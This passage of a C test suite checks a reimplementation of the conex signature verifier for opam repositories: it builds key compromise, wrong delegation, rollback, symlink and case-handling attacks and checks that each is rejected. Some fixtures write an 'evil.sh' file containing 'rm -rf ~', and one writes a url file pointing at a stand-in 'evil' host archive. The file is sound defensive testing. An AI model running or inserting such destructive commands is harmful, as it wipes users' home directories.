	rb_world_sign_maintainer(w, 0);
	rb_world_sign_snapshot(w);
	rb_world_sign_timestamp(w);
	/* v3: only a fresh timestamp */
	v3 = fx_copy(&f, v2, "v3");
	rb_world_sign_timestamp(w);
	ck_assert_int_eq(
	    cx_state_path(fx_path(&f, f.tmp, "state"), f.anchors, 1, &statepath, &e), 0);
	ck_assert_int_eq(cx_state_load(statepath, &st, &found, &e), 0);
	ck_assert(!found);
	ACCEPT(vdir(v3, &o, &r3, &e));
	ck_assert_int_eq(cx_state_store(statepath, &r3.c, &e), 0);
	ACCEPT(vdir(v2, &o, &r2, &e)); /* v2 on its own is fine ... */
	ACCEPT(vdir(f.base, &o, &r1, &e));
	ck_assert_int_eq(cx_state_load(statepath, &st, &found, &e), 0);
	ck_assert(found);
	/* ... but not after v3 */
	REJECT(cx_counters_check(&st, &r2.c, &e), "timestamp counter is moving backwards", NULL);
	REJECT(cx_counters_check(&st, &r1.c, &e), "snapshot counter is moving backwards", NULL);
	ACCEPT(cx_counters_check(&st, &r3.c, &e));
	free(statepath);
	fx_free(&f);
}
END_TEST

START_TEST(test_key_compromise_below_threshold)
{
	struct fx f;
	struct cx_err e;
	struct rb_world *w;
	const char *d;

	fx_init(&f, 3, 2, 1);
	w = &f.w;
	/* compromised m1 alone signs a malicious release */
	d = fx_copy(&f, f.base, "evil");
	rb_world_file(w, "packages/evil/evil.1.0/opam", OPAM_EVIL);
	rb_world_sign_maintainer(w, 0);
	rb_world_sign_snapshot(w);
	rb_world_sign_timestamp(w);
	REJECT(vfy(&f, d, &e), "packages/evil/evil.1.0/opam", "not covered");
	ck_assert_msg(strstr(logbuf, "quorum not reached") != NULL, "%s", logbuf);
	/* control: a second maintainer signs it too */
	rb_world_sign_maintainer(w, 1);
	rb_world_sign_snapshot(w);
	rb_world_sign_timestamp(w);
	ACCEPT(vfy(&f, d, &e));
	/* m1 alone changes a released file */
	d = fx_copy(&f, f.base, "changed");
	rb_world_file(w, "packages/foo/foo.1.0.0/opam", OPAM_EVIL);
	rb_world_sign_maintainer(w, 0);
	rb_world_sign_snapshot(w);
	rb_world_sign_timestamp(w);
	REJECT(vfy(&f, d, &e), "packages/foo/foo.1.0.0/opam", "does not match its valid targets");
	fx_free(&f);
}
END_TEST

/* One maintainer of a quorum of 2 cannot delegate on their own. */
START_TEST(test_key_compromise_delegation)
{
	static const char *const subs[] = {"packages/foo", "packages/bar"};
	static const char *const evsub[] = {"packages/evil"};
	struct fx f;
	struct cx_err e;
	struct rb_world *w;
	struct rb_key *ek;
	struct cx_resource *et;
	const char *d;

	fx_init(&f, 3, 2, 1);
	w = &f.w;
	d = fx_copy(&f, f.base, "deleg");
	rb_world_file(w, "packages/evil/evil.1.0/opam", OPAM_EVIL);
	ek = rb_key_gen("evil", ALG);
	et = rb_world_identity(w, ek);
	rb_world_sign_targets(w, et, ek, evsub, 1);
	delegate(w, w->rm[0], "packages/evil", et, 1);
	rb_world_sign_targets(w, w->rm[0], w->m[0], subs, 2);
	sign_snap_ts(w);
	REJECT(vfy(&f, d, &e), "packages/evil/evil.1.0/opam", "not covered");
	ck_assert_msg(strstr(logbuf, "delegation of packages/evil: quorum not reached") != NULL,
	    "%s", logbuf);
	/* control: a quorum of maintainers delegates */
	delegate(w, w->rm[1], "packages/evil", et, 1);
	rb_world_sign_targets(w, w->rm[1], w->m[1], subs, 2);
	sign_snap_ts(w);
	ACCEPT(vfy(&f, d, &e));
	/* the two must delegate to the same thing: m2 pins another key hash */
	w->rm[1]->dels = NULL;
	w->rm[1]->ndels = 0;
	{
		struct cx_keyref ref = rb_remote("evil", w->m[1]->keyid, 0);
		rb_add_delegation(
		    &w->a, w->rm[1], "packages/evil", rb_quorum(&w->a, 1, &ref, 1), 1);
	}
	rb_world_sign_targets(w, w->rm[1], w->m[1], subs, 2);
	sign_snap_ts(w);
	REJECT(vfy(&f, d, &e), "packages/evil/evil.1.0/opam", "not covered");
	rb_key_free(ek);
	fx_free(&f);
}
END_TEST

/* A delegate for packages/foo signs elsewhere. */
START_TEST(test_wrong_software_installation)
{
	static const char *const foo[] = {"packages/foo"};
	static const char *const foobar[] = {"packages/foo", "packages/bar/bar.0.2"};
	static const char *const foofoobar[] = {"packages/foo", "packages/foobar"};
	struct fx f;
	struct cx_err e;
	struct rb_world *w;
	struct rb_key *ak;
	struct cx_resource *at;
	const char *d;

	fx_init(&f, 1, 1, 0);
	w = &f.w;
	ak = rb_key_gen("alice", ALG);
	at = rb_world_identity(w, ak);
	delegate(w, w->rm[0], "packages/foo", at, 1);
	rb_world_sign_root(w);
	rb_world_sign_maintainer(w, 0);
	rb_world_sign_targets(w, at, ak, foo, 1);
	sign_snap_ts(w);
	ACCEPT(vfy(&f, f.base, &e));
	/* control: alice releases foo.2.0.0 */
	d = fx_copy(&f, f.base, "foo2");
	rb_world_file(w, "packages/foo/foo.2.0.0/opam", OPAM_FOO);
	rb_world_sign_targets(w, at, ak, foo, 1);
	sign_snap_ts(w);
	ACCEPT(vfy(&f, d, &e));
	/* alice signs a release of bar */
	d = fx_copy(&f, f.base, "bar");
	rb_world_file(w, "packages/bar/bar.0.2/opam", OPAM_EVIL);
	rb_world_sign_targets(w, at, ak, foobar, 2);
	sign_snap_ts(w);
	REJECT(vfy(&f, d, &e), "packages/bar/bar.0.2/opam", "not covered");
	ck_assert_msg(strstr(logbuf, "not below 'packages/foo'") != NULL, "%s", logbuf);
	/* packages/foo is not a prefix of packages/foobar */
	d = fx_copy(&f, f.base, "foobar");
	rb_world_file(w, "packages/foobar/foobar.1/opam", OPAM_EVIL);
	rb_world_sign_targets(w, at, ak, foofoobar, 2);
	sign_snap_ts(w);
	REJECT(vfy(&f, d, &e), "packages/foobar/foobar.1/opam", "not covered");
	/* alice changes bar's released file: still m1's digest that counts */
	d = fx_copy(&f, f.base, "barchg");
	rb_world_file(w, "packages/bar/bar.0.1/opam", OPAM_EVIL);
	{
		static const char *const s2[] = {"packages/foo", "packages/bar"};
		rb_world_sign_targets(w, at, ak, s2, 2);
	}
	sign_snap_ts(w);
	REJECT(vfy(&f, d, &e), "packages/bar/bar.0.1/opam", "does not match its valid targets");
	rb_key_free(ak);
	fx_free(&f);
}
END_TEST

/* m1 delegates packages/foo to alice, alice delegates foo.3.0.0 to bob. */
static void
terminating_world(int terminating, int *verdict, struct cx_err *out)
{
	static const char *const m1subs[] = {"packages/foo/foo.1.0.0", "packages/bar"};
	static const char *const bobsub[] = {"packages/foo/foo.3.0.0"};
	struct fx f;
	struct rb_world *w;
	struct rb_key *ak, *bk;
	struct cx_resource *at, *bt;

	fx_init(&f, 1, 1, 0);
	w = &f.w;
	rb_world_file(w, "packages/foo/foo.3.0.0/opam", OPAM_FOO);
	ak = rb_key_gen("alice", ALG);
	bk = rb_key_gen("bob", ALG);
	at = rb_world_identity(w, ak);
	bt = rb_world_identity(w, bk);
	delegate(w, w->rm[0], "packages/foo", at, terminating);
	delegate(w, at, "packages/foo/foo.3.0.0", bt, 1);
	rb_world_sign_root(w);
	rb_world_sign_targets(w, w->rm[0], w->m[0], m1subs, 2);
	rb_world_sign_targets(w, at, ak, NULL, 0);
	rb_world_sign_targets(w, bt, bk, bobsub, 1);
	sign_snap_ts(w);
	*verdict = vfy(&f, f.base, out);
	rb_key_free(ak);
	rb_key_free(bk);
	fx_free(&f);
}

START_TEST(test_delegation_terminating)
{
	struct cx_err e;
	int r;

	terminating_world(0, &r, &e);
	ACCEPT(r);
	terminating_world(1, &r, &e);
	REJECT(r, "packages/foo/foo.3.0.0/opam", "not covered");
}
END_TEST

/*
 * Key compromise below threshold, one key under two names: a root whose valid
 * is (2 [root root2]) where root2 is the same key as root.  One key never
 * counts twice (§5: the signers map is keyed by key id).
 */
START_TEST(test_one_key_twice_root)
{
	struct fx f;
	struct cx_err e;
	struct cx_verify_opts o;
	struct rb_world *w;
	struct rb_key twin, *other;
	struct cx_keyref l[2] = {rb_local("root"), rb_local("root2")};

	fx_init(&f, 1, 1, 0);
	w = &f.w;
	twin = *w->root;
	twin.id = "root2";
	rb_add_key(&w->a, w->rroot, &twin);
	w->rroot->valid = rb_quorum(&w->a, 2, l, 2);
	rb_world_sign_all(w); /* signed as root */
	rb_sign(&w->a, w->rroot, &twin, w->created);
	rb_write(w->rroot, f.base, "root");
	fx_opts(&f, &o);
	REJECT(vdir(f.base, &o, NULL, &e), "root", "couldn't validate root role");
	o.quorum = 2;
	REJECT(vdir(f.base, &o, NULL, &e), "root", NULL);
	/* control: root2 a key of its own, anchored too */
	other = rb_key_gen("root2", ALG);
	w->rroot->keys = NULL;
	w->rroot->nkeys = 0;
	rb_add_key(&w->a, w->rroot, w->root);
	rb_add_key(&w->a, w->rroot, other);
	sign_root_at(w, 1);
	rb_sign(&w->a, w->rroot, other, w->created);
	rb_write(w->rroot, f.base, "root");
	{
		const char *an[2] = {w->root->keyid, other->keyid};
		o.anchors = an;
		o.nanchors = 2;
		ACCEPT(vdir(f.base, &o, NULL, &e));
		o.anchors = f.anchors;
		o.nanchors = 1;
		REJECT(vdir(f.base, &o, NULL, &e), "root", NULL);
	}
	rb_key_free(other);
	fx_free(&f);
}
END_TEST

/*
 * The same for a targets file: keys/m1 with valid (2 [a b]) where a and b are
 * one key.  Upstream's verify maps key id -> signer, so the key counts once
 * and the quorum of 2 is not met.
 *
 * LIBRARY BUG (reported to the lead, not fixed here): conex/verify.c
 * tf_sig_ok ignores the key ((void)k) and collects every verifying signature,
 * so tf_local finds both "a" and "b" and one key meets (2 [a b]).  Fails until
 * load_targets counts one signer per key id, as verify_root's root_sig_ok does.
 */
START_TEST(test_one_key_twice_targets)
{
	struct fx f;
	struct cx_err e;
	struct rb_world *w;
	struct cx_resource *t;
	struct rb_key *ka, *kb, twin, *ab[2], *same[2];
	struct cx_keyref l[2] = {rb_local("a"), rb_local("b")}, ref;
	char hex[CX_SHA256_HEX + 1];

	ka = rb_key_gen("a", ALG);
	kb = rb_key_gen("b", ALG);
	twin = *ka;
	twin.id = "b";
	/* control: two distinct keys */
	fx_init(&f, 1, 1, 0);
	w = &f.w;
	t = w->rm[0];
	t->keys = NULL;
	t->nkeys = 0;
	rb_add_key(&w->a, t, ka);
	rb_add_key(&w->a, t, kb);
	t->valid = rb_quorum(&w->a, 2, l, 2);
	rb_key_hash(t, hex);
	ref = rb_remote("m1", hex, 0);
	w->rroot->role_maintainer = rb_quorum(&w->a, 1, &ref, 1);
	rb_world_sign_root(w);
	ab[0] = ka;
	ab[1] = kb;
	sign_targets_keys(w, t, ab, 2, "packages", "keys/m1");
	sign_snap_ts(w);
	ACCEPT(vfy(&f, f.base, &e));
	sign_targets_keys(w, t, &ka, 1, "packages", "keys/m1");
	sign_snap_ts(w);
	REJECT(vfy(&f, f.base, &e), "not covered", NULL);
	fx_free(&f);
	/* the attack: b is a's key */
	fx_init(&f, 1, 1, 0);
	w = &f.w;
	t = w->rm[0];
	t->keys = NULL;
	t->nkeys = 0;
	rb_add_key(&w->a, t, ka);
	rb_add_key(&w->a, t, &twin);
	t->valid = rb_quorum(&w->a, 2, l, 2);
	rb_key_hash(t, hex);
	ref = rb_remote("m1", hex, 0);
	w->rroot->role_maintainer = rb_quorum(&w->a, 1, &ref, 1);
	rb_world_sign_root(w);
	same[0] = ka;
	same[1] = &twin;
	sign_targets_keys(w, t, same, 2, "packages", "keys/m1");
	sign_snap_ts(w);
	REJECT(vfy(&f, f.base, &e), "not covered", NULL);
	fx_free(&f);
	rb_key_free(ka);
	rb_key_free(kb);
}
END_TEST

/*
 * And for a maintainer quorum: root pins m1 and m2 with the same key hash
 * (m2 copied m1's key).  §6.3: the evaluation's keys are a map digest ->
 * (id, epoch), so one key hash satisfies one keyref, and a quorum of 2 is
 * not met by one key signing two files.
 *
 * LIBRARY BUG (reported to the lead, not fixed here): conex/verify.c
 * support_remote/eval_support look the keyref up in the list of counting
 * files, one entry per identity, so m1 and m2 with one key hash satisfy both
 * keyrefs of (2 [m1 m2]).  Fails until a key hash counts for one identity.
 */
START_TEST(test_one_key_twice_maintainers)
{
	struct fx f;
	struct cx_err e;
	struct rb_world *w;
	struct cx_keyref refs[2], lr;
	struct rb_key twin;
	char hex[CX_SHA256_HEX + 1];

	fx_init(&f, 2, 2, 0);
	w = &f.w;
	ACCEPT((rb_world_sign_all(w), vfy(&f, f.base, &e))); /* control: two keys */
	twin = *w->m[0];
	twin.id = "m2";
	w->rm[1]->keys = NULL;
	w->rm[1]->nkeys = 0;
	rb_add_key(&w->a, w->rm[1], &twin);
	lr = rb_local("m2");
	w->rm[1]->valid = rb_quorum(&w->a, 1, &lr, 1);
	rb_key_hash(w->rm[0], hex);
	refs[0] = rb_remote("m1", hex, 0);
	rb_key_hash(w->rm[1], hex);
	refs[1] = rb_remote("m2", hex, 0);
	ck_assert_str_eq(refs[0].digest.value, hex); /* the same key hash */
	w->rroot->role_maintainer = rb_quorum(&w->a, 2, refs, 2);
	rb_world_sign_root(w);
	rb_world_sign_maintainer(w, 0);
	w->rm[1]->sigs = NULL;
	w->rm[1]->nsigs = 0;
	rb_clear_targets(w->rm[1]);
	rb_add_targets_below(&w->a, w->rm[1], f.base, "packages");
	rb_sign(&w->a, w->rm[1], &twin, w->created);
	rb_write(w->rm[1], f.base, "keys/m2");
	rb_world_sign_snapshot(w);
	rb_world_sign_timestamp(w);
	REJECT(vfy(&f, f.base, &e), "not covered", NULL);
	fx_free(&f);
}
END_TEST

/* ======================= upstream bugs (§12) ======================= */

/* §12.1: valid (0 []) and no signature passed upstream when --quorum was not given. */
START_TEST(test_bug1_quorum0_root)
{
	struct fx f;
	struct cx_err e;
	struct cx_verify_opts o;
	struct rb_world *w;

	fx_init(&f, 2, 1, 0);
	w = &f.w;
	w->rroot->valid = rb_quorum(&w->a, 0, NULL, 0);
	rb_world_sign_all(w);
	fx_opts(&f, &o);
	ACCEPT(vdir(f.base, &o, NULL, &e)); /* signed by the anchor: fine */
	o.quorum = 2;
	REJECT(vdir(f.base, &o, NULL, &e), "root", "provided quorum was not matched");
	/* the same root without any signature */
	rb_set_next_counter(w->rroot, w->rroot->counter);
	rb_write(w->rroot, f.base, "root");
	o.quorum = 1;
	REJECT(vdir(f.base, &o, NULL, &e), "root", "provided quorum was not matched");
	o.quorum = 0; /* not given: means 1 */
	REJECT(vdir(f.base, &o, NULL, &e), "root", "provided quorum was not matched");
	/* the CLI without --quorum */
	ck_assert_int_eq(cx_test_sh("'%s/conex' verify -t sha256=%s --dir '%s' --now %s --no-state "
	                            ">/dev/null 2>&1",
	                     CX_BUILD_DIR, w->root->keyid, f.base, w->created),
	    1);
	/* ... and with --quorum 0, as opam passes a repository's quorum of 0 */
	ck_assert_int_eq(cx_test_sh("'%s/conex' verify -t sha256=%s --quorum 0 --dir '%s' --now %s "
	                            "--no-state >/dev/null 2>&1",
	                     CX_BUILD_DIR, w->root->keyid, f.base, w->created),
	    1);
	/* signed by a key that is not an anchor */
	{
		struct rb_key *mk = rb_key_gen("mirror", ALG);
		rb_add_key(&w->a, w->rroot, mk);
		rb_sign(&w->a, w->rroot, mk, w->created);
		rb_write(w->rroot, f.base, "root");
		REJECT(vdir(f.base, &o, NULL, &e), "root", "provided quorum was not matched");
		rb_key_free(mk);
	}
	fx_free(&f);
}
END_TEST

/* §12.4: --nostrict tolerates packages nobody signs, and nothing else. */
START_TEST(test_bug4_nostrict)
{
	struct fx f;
	struct cx_err e;
	struct cx_verify_opts o;
	const char *d;

	fx_init(&f, 2, 1, 1);
	fx_opts(&f, &o);
	d = fx_copy(&f, f.base, "unsigned-pkg");
	write_str(d, "packages/newpkg/newpkg.1.0/opam", OPAM_FOO);
	write_str(d, "packages/newpkg/newpkg.1.0/files/x.patch", "x\n");
	REJECT(vdir(d, &o, NULL, &e), "packages/newpkg/newpkg.1.0/", "not covered");
	o.strict = 0;
	ACCEPT(vdir(d, &o, NULL, &e));
	/* an unsigned file inside a signed package: still refused */
	d = fx_copy(&f, f.base, "unsigned-file");
	write_str(d, "packages/foo/foo.1.0.0/files/evil.sh", "rm -rf ~\n");
	REJECT(vdir(d, &o, NULL, &e), "packages/foo/foo.1.0.0/files/evil.sh", "not covered");
	/* an unsigned new version of a signed package too */
	d = fx_copy(&f, f.base, "unsigned-version");
	write_str(d, "packages/foo/foo.9/opam", OPAM_EVIL);
	REJECT(vdir(d, &o, NULL, &e), "packages/foo/foo.9/opam", "not covered");
	/* a signed file that was changed is never tolerated */
	d = fx_copy(&f, f.base, "changed");
	write_str(d, "packages/bar/bar.0.1/opam", OPAM_EVIL);
	REJECT(vdir(d, &o, NULL, &e), "packages/bar/bar.0.1/opam", "does not match");
	/* the CLI flag */
	d = fx_path(&f, f.tmp, "unsigned-pkg");
	ck_assert_int_eq(cx_test_sh("'%s/conex' verify -t sha256=%s --dir '%s' --now %s --no-state "
	                            "-q 2>/dev/null",
	                     CX_BUILD_DIR, f.w.root->keyid, d, f.w.created),
	    1);
	ck_assert_int_eq(cx_test_sh("'%s/conex' verify -t sha256=%s --dir '%s' --now %s --no-state "
	                            "-q --nostrict 2>/dev/null",
	                     CX_BUILD_DIR, f.w.root->keyid, d, f.w.created),
	    0);
	fx_free(&f);
}
END_TEST

/*
 * §12.5: a malformed keys/m3 crashed upstream for everyone.  Here it is
 * dropped with a message naming it; m1 and m2 still meet a quorum of 2.
 */
static void
malformed_m3(const char *what, const char *from, const char *to)
{
	struct fx f;
	struct cx_err e;
	struct rb_world *w;
	const char *d;

	fx_init(&f, 3, 2, 1);
	w = &f.w;
	d = fx_copy(&f, f.base, what);
	edit_file(d, "keys/m3", from, to);
	rb_world_sign_snapshot(w); /* the snapshot lists the broken file as it is */
	rb_world_sign_timestamp(w);
	ACCEPT(vfy(&f, d, &e));
	ck_assert_msg(
	    strstr(logbuf, "targets m3: malformed, dropped") != NULL, "%s: %s", what, logbuf);
	if (getenv("CX_TEST_VERBOSE") != NULL)
		fprintf(stderr, "%s: %s", what, logbuf);
	/* with a quorum of 3, m3 is missed */
	w->rroot->role_maintainer->n = 3;
	rb_world_sign_root(w);
	REJECT(vfy(&f, d, &e), "not covered", NULL);
	ck_assert_msg(strstr(logbuf, "targets m3: malformed, dropped") != NULL, "%s", logbuf);
	/* control: a quorum of 3 with a good m3 */
	rb_world_sign_maintainer(w, 2);
	rb_world_sign_snapshot(w);
	rb_world_sign_timestamp(w);
	ACCEPT(vfy(&f, d, &e));
	fx_free(&f);
}

START_TEST(test_bug5_malformed_keys)
{
	malformed_m3("escape", "\"m3\"", "\"m\\q3\""); /* a bad escape */
	malformed_m3("intoverflow", "version 0", "version 99999999999999999999999");
	malformed_m3("bigint", "counter 0x0", "counter 0x1FFFFFFFFFFFFFFFF");
	malformed_m3("garbage", "signed", "(* unterminated");
}
END_TEST

/* §12.6: files/ and every other file below datadir must be signed. */
START_TEST(test_bug6_unsigned_files)
{
	struct fx f;
	struct cx_err e;
	const char *d;

	fx_init(&f, 2, 1, 1);
	ACCEPT(vfy(&f, f.base, &e)); /* files/fix.patch is signed */
	d = fx_copy(&f, f.base, "files");
	write_str(d, "packages/foo/foo.1.0.0/files/evil.sh", "rm -rf ~\n");
	REJECT(vfy(&f, d, &e), "packages/foo/foo.1.0.0/files/evil.sh", "not covered");
	d = fx_copy(&f, f.base, "url");
	write_str(d, "packages/foo/foo.1.0.0/url", "archive: \"http://evil/x.tgz\"\n");
	REJECT(vfy(&f, d, &e), "packages/foo/foo.1.0.0/url", "not covered");
	d = fx_copy(&f, f.base, "dot");
	write_str(d, "packages/bar/.hidden", "x\n");
	REJECT(vfy(&f, d, &e), "packages/bar/.hidden", "not covered");
	fx_free(&f);
}
END_TEST

/* §12.7: a keys/ file that does not match the snapshot rejects the repository, not just itself. */
START_TEST(test_bug7_keys_modified_after_snapshot)
{
	struct fx f;
	struct cx_err e;
	struct rb_world *w;
	const char *d;

	fx_init(&f, 3, 2, 1);
	w = &f.w;
	d = fx_copy(&f, f.base, "m3");
	rb_world_sign_maintainer(w, 2); /* m1 and m2 alone would meet the quorum */
	REJECT(vfy(&f, d, &e), "keys/m3", "does not match snapshot");
	rb_world_sign_snapshot(w);
	REJECT(vfy(&f, d, &e), "snap", "no match in timestamp target");
	rb_world_sign_timestamp(w);
	ACCEPT(vfy(&f, d, &e));
	fx_free(&f);
}
END_TEST

/* §12.11: symlinks in datadir and keydir (upstream followed them with stat). */
START_TEST(test_bug11_symlinks)
{
	struct fx f;
	struct cx_err e;
	const char *d, *out;
	size_t len;
	char *s;

	fx_init(&f, 3, 2, 1);
	ACCEPT(vfy(&f, f.base, &e));
	/* a data file replaced by a symlink to identical bytes outside the repository */
	d = fx_copy(&f, f.base, "datafile");
	s = read_str(d, "packages/foo/foo.1.0.0/opam", &len);
	out = fx_path(&f, f.tmp, "outside-opam");
	write_str(f.tmp, "outside-opam", s);
	free(s);
	rm_file(d, "packages/foo/foo.1.0.0/opam");
	ck_assert_int_eq(symlink(out, fx_path(&f, d, "packages/foo/foo.1.0.0/opam")), 0);
	REJECT(vfy(&f, d, &e), "packages/foo/foo.1.0.0/opam", "symlink");
	/* a data directory that is a symlink */
	d = fx_copy(&f, f.base, "datadirlink");
	ck_assert_int_eq(
	    symlink(fx_path(&f, d, "packages/foo"), fx_path(&f, d, "packages/baz")), 0);
	REJECT(vfy(&f, d, &e), "packages/baz", "symlink");
	/* the datadir itself */
	d = fx_copy(&f, f.base, "datadir");
	ck_assert_int_eq(
	    rename(fx_path(&f, d, "packages"), fx_path(&f, f.tmp, "outside-packages")), 0);
	ck_assert_int_eq(
	    symlink(fx_path(&f, f.tmp, "outside-packages"), fx_path(&f, d, "packages")), 0);
	REJECT(vfy(&f, d, &e), "packages", "symlink");
	/* keys/m3 a symlink to identical bytes */
	d = fx_copy(&f, f.base, "keyfile");
	s = read_str(d, "keys/m3", &len);
	out = fx_path(&f, f.tmp, "outside-m3");
	write_str(f.tmp, "outside-m3", s);
	free(s);
	rm_file(d, "keys/m3");
	ck_assert_int_eq(symlink(out, fx_path(&f, d, "keys/m3")), 0);
	REJECT(vfy(&f, d, &e), "keys/m3", "symlink");
	/* the root file */
	d = fx_copy(&f, f.base, "rootfile");
	ck_assert_int_eq(rename(fx_path(&f, d, "root"), fx_path(&f, f.tmp, "outside-root")), 0);
	ck_assert_int_eq(symlink(fx_path(&f, f.tmp, "outside-root"), fx_path(&f, d, "root")), 0);
	REJECT(vfy(&f, d, &e), "root", "symlink");
	/* control: the link replaced by the file it pointed to */
	rm_file(d, "root");
	ck_assert_int_eq(rename(fx_path(&f, f.tmp, "outside-root"), fx_path(&f, d, "root")), 0);
	ACCEPT(vfy(&f, d, &e));
	fx_free(&f);
}
END_TEST

/*
 * §12.15, case handling where it decides accept/reject, as upstream does:
 *  - a resource's name matches its file name case-insensitively (id_equal): accepted;
 *  - a signature's id finds its key exactly (case-sensitive): "M1" does not sign for m1;
 *  - a Local keyref is satisfied by an exact signer id: valid ROOT is not met by "root";
 *  - digests compare bytewise: uppercase hex never matches the file;
 *  - keyrefs are a set under case-insensitive ids: a quorum of 2 over m1 and M1 is one
 *    key, so the root fails ("insufficient keys for quorum") instead of letting m1
 *    count twice.
 */
START_TEST(test_bug15_case)
{
	static const char *const all[] = {"packages"};
	struct fx f;
	struct cx_err e;
	struct rb_world *w;
	struct cx_resource *t;
	const char *d;

	fx_init(&f, 1, 1, 1);
	w = &f.w;
	t = w->rm[0];
	ACCEPT(vfy(&f, f.base, &e));
	/* name "M1" in keys/m1 */
	d = fx_copy(&f, f.base, "name");
	t->name = "M1";
	sign_targets_keys(w, t, &w->m[0], 1, "packages", "keys/m1");
	sign_snap_ts(w);
	ACCEPT(vfy(&f, d, &e));
	t->name = "m1";
	/* signature by "M1" with m1's key */
	d = fx_copy(&f, f.base, "sigid");
	rb_clear_targets(t);
	rb_add_targets_below(&w->a, t, d, "packages");
	rb_set_next_counter(t, t->counter + 1);
	ck_assert_int_eq(cx_resource_sign(&w->a, t, "M1", w->created, cx_sigalg_for_key(w->alg),
	                     cx_sign_evp, w->m[0]->pk, &e),
	    0);
	rb_write(t, d, "keys/m1");
	sign_snap_ts(w);
	REJECT(vfy(&f, d, &e), "not covered", NULL);
	ck_assert_msg(strstr(logbuf, "m1") != NULL, "%s", logbuf);
	/* control: the same, signed as "m1" */
	rb_world_sign_targets(w, t, w->m[0], all, 1);
	sign_snap_ts(w);
	ACCEPT(vfy(&f, d, &e));
	/* uppercase digest hex */
	d = fx_copy(&f, f.base, "digest");
	rb_clear_targets(t);
	rb_add_targets_below(&w->a, t, d, "packages");
	for (size_t i = 0; i < t->ntargets; i++) {
		char *u = cx_arena_memdup(
		    &w->a, t->targets[i].digests[0].value, t->targets[i].digests[0].len);
		for (char *p = u; *p; p++)
			if (*p >= 'a' && *p <= 'f')
				*p = (char)(*p - 'a' + 'A');
		t->targets[i].digests[0].value = u;
	}
	rb_set_next_counter(t, t->counter + 1);
	rb_sign(&w->a, t, w->m[0], w->created);
	rb_write(t, d, "keys/m1");
	sign_snap_ts(w);
	{
		int r = vfy(&f, d, &e);
		ck_assert_msg(r == CX_EREJECT && strstr(e.msg, "packages/") != NULL, "%s: %s",
		    cx_code_str(r), e.msg);
	}
	/* root valid "ROOT", signed by "root" */
	d = fx_copy(&f, f.base, "local");
	{
		struct cx_keyref l = rb_local("ROOT");
		w->rroot->valid = rb_quorum(&w->a, 1, &l, 1);
		rb_world_sign_root(w);
		REJECT(vfy(&f, d, &e), "root", "couldn't validate root role");
		l = rb_local("root");
		w->rroot->valid = rb_quorum(&w->a, 1, &l, 1);
		rb_world_sign_root(w);
		ACCEPT(vfy(&f, d, &e));
	}
	/* a maintainer quorum of 2 over m1 and M1 */
	d = fx_copy(&f, f.base, "dup");
	{
		struct cx_expr *m = w->rroot->role_maintainer;
		struct cx_keyref refs[2];
		ck_assert(m->kind == CX_EXPR_QUORUM && m->nrefs == 1);
		refs[0] = m->refs[0];
		refs[1] = m->refs[0];
		refs[1].id = "M1";
		w->rroot->role_maintainer = rb_quorum(&w->a, 2, refs, 2);
		rb_world_sign_root(w);
		/* the message is checked by test_libbug_meta_parse_error_message */
		ck_assert_int_eq(vfy(&f, d, &e), CX_EREJECT);
		w->rroot->role_maintainer = m;
		rb_world_sign_root(w);
		ACCEPT(vfy(&f, d, &e));
	}
	fx_free(&f);
}
END_TEST

static void
canon_expr(struct cx_arena *a, const struct cx_expr *x, struct cx_buf *b)
{
	struct cx_wire *wx = cx_expr_to_wire(a, x);

	ck_assert_ptr_nonnull(wx);
	cx_buf_init(b, 0);
	ck_assert_int_eq(cx_wire_canon(wx, b), 0);
	ck_assert_int_eq(cx_buf_put_u8(b, 0), 0);
}

/* §12.16: (a | b) & c survives a write/read cycle (upstream printed a | b & c). */
START_TEST(test_bug16_and_or_roundtrip)
{
	struct cx_arena a;
	struct cx_resource *r, *r2, *r3;
	struct cx_buf w1, w2, c1, c2, k1, k2;
	struct cx_err e;
	struct rb_key *ka = rb_key_gen("a", ALG), *kb = rb_key_gen("b", ALG),
	              *kc = rb_key_gen("c", ALG);
	struct cx_keyref la = rb_local("a"), lb = rb_local("b"), lc = rb_local("c");

	cx_arena_init(&a, 0);
	r = rb_new(&a, CX_R_TARGETS, "m1", "2025-01-01T00:00:00Z");
	rb_add_key(&a, r, ka);
	rb_add_key(&a, r, kb);
	rb_add_key(&a, r, kc);
	r->valid = rb_and(&a, rb_or(&a, rb_quorum(&a, 1, &la, 1), rb_quorum(&a, 1, &lb, 1)),
	    rb_quorum(&a, 1, &lc, 1));
	cx_buf_init(&w1, 0);
	ck_assert_int_eq(cx_resource_write(r, &w1, &e), 0);
	ck_assert_int_eq(cx_resource_parse(&a, "m1", w1.d, w1.len, CX_R_TARGETS, &r2, NULL, &e), 0);
	ck_assert_int_eq(r2->valid->kind, CX_EXPR_AND);
	ck_assert_int_eq(r2->valid->a->kind, CX_EXPR_OR);
	canon_expr(&a, r->valid, &c1);
	canon_expr(&a, r2->valid, &c2);
	ck_assert_str_eq((char *)c1.d, "((a||b)&&c)");
	ck_assert_str_eq((char *)c2.d, "((a||b)&&c)");
	/* the signed bytes are the same, and a second cycle writes the same file */
	cx_buf_init(&k1, 0);
	cx_buf_init(&k2, 0);
	ck_assert_int_eq(cx_resource_canon(r, &k1), 0);
	ck_assert_int_eq(cx_resource_canon(r2, &k2), 0);
	ck_assert(k1.len == k2.len && memcmp(k1.d, k2.d, k1.len) == 0);
	cx_buf_init(&w2, 0);
	ck_assert_int_eq(cx_resource_write(r2, &w2, &e), 0);
	ck_assert(w1.len == w2.len && memcmp(w1.d, w2.d, w1.len) == 0);
	/* a | (b & c) is another expression */
	r3 = rb_new(&a, CX_R_TARGETS, "m1", "2025-01-01T00:00:00Z");
	r3->valid = rb_or(&a, rb_quorum(&a, 1, &la, 1),
	    rb_and(&a, rb_quorum(&a, 1, &lb, 1), rb_quorum(&a, 1, &lc, 1)));
	cx_buf_free(&c1);
	canon_expr(&a, r3->valid, &c1);
	ck_assert_str_eq((char *)c1.d, "(a||(b&&c))");
	cx_buf_free(&w1);
	cx_buf_free(&w2);
	cx_buf_free(&c1);
	cx_buf_free(&c2);
	cx_buf_free(&k1);
	cx_buf_free(&k2);
	cx_arena_free(&a);

	/* end to end: a maintainer whose valid is (a | b) & c */
	{
		struct fx f;
		struct rb_world *w;
		struct cx_resource *t;
		struct rb_key *ac[2] = {ka, kc}, *bc[2] = {kb, kc}, *ab[2] = {ka, kb};
		char hex[CX_SHA256_HEX + 1];
		struct cx_keyref ref;

		fx_init(&f, 1, 1, 0);
		w = &f.w;
		t = w->rm[0];
		rb_add_key(&w->a, t, ka);
		rb_add_key(&w->a, t, kb);
		rb_add_key(&w->a, t, kc);
		t->valid = rb_and(&w->a,
